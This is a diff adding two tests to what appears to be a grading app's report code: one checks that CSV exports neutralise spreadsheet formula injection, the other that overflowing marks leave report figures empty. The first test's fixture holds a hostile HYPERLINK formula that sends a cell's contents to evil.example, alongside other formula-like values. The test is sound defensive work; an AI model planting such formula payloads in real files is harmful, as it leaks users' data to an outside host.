@@ -166,6 +166,18 @@ def test_scores_report(resource, run_jobs):
     ]
 
 
+def test_cells_a_spreadsheet_would_run_as_formulas_are_text_and_numbers_stay_numbers(resource, run_jobs):
+    hostile = factories.user(resource.consumer, "+1-2", '=HYPERLINK("http://evil.example/?"&A1,"Open")',
+                             email="@SUM(1+1)@example.edu")
+    factories.attempt(resource, hostile, {"q0": (-1.5, 2), "-2+3": (1, 1)})
+    header, row = csv_rows(build(resource, "attempts", run_jobs))
+    cells = dict(zip(header, row))
+    assert cells["user_id"] == "'+1-2" and cells["email"] == "'@SUM(1+1)@example.edu"
+    assert cells["name"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Open")'
+    assert "'-2+3" in header and cells["'-2+3"] == "1"
+    assert cells["q0"] == "-1.5" and cells["raw_score"] == "-0.5"
+
+
 def test_full_data_has_every_element_of_attempts_not_deleted(resource, run_jobs):
     ada_attempt = ada_only(resource)
     deleted = factories.attempt(resource, factories.user(resource.consumer, "dee", "Dee"), deleted_at=MONDAY)
@@ -371,3 +383,18 @@ def test_a_stored_file_reads_back_chunk_by_chunk(app, monkeypatch):
     assert (stored.size, stored.sha256) == (22, hashlib.sha256(data).hexdigest())
     assert list(storage.iter_chunks(stored)) == [data[i:i + 4] for i in range(0, 22, 4)]
     assert store_stream(io.BytesIO(data)).id == file_id  # the same bytes are stored once
+
+
+def test_huge_marks_leave_their_figures_empty_and_the_rest_of_the_report_whole(resource, instructor, client,
+                                                                               run_jobs):
+    ada_only(resource)  # q0 1/2, q1 3/3
+    huge = factories.user(resource.consumer, "huge", "Hugh Huge")
+    # score as marking.attempt_score gives it: the sums overflow, and the clamp makes that 0
+    factories.attempt(resource, huge, {"q0": (1e308, 1e308), "q1": (1e308, 1e308), "q2": (1, 1)}, score=0.0)
+    factories.attempt(resource, factories.user(resource.consumer, "bo", "Bo"), {"q2": (0, 1)})
+    rows = {row[0]: row for row in csv_rows(build(resource, "questions", run_jobs))[1:]}
+    assert rows["q0"][2:7] == ["2", "5e+307", "5e+307", "100", ""]  # a square beyond a float: left empty
+    assert rows["q2"][2:7] == ["2", "0.5", "1", "50", "0.5"]
+    factories.sign_in(client, instructor)
+    page = client.get(f"/dashboard/resources/{resource.id}/statistics")
+    assert page.status_code == 200 and "From 3 finished attempts" in page.get_data(as_text=True)
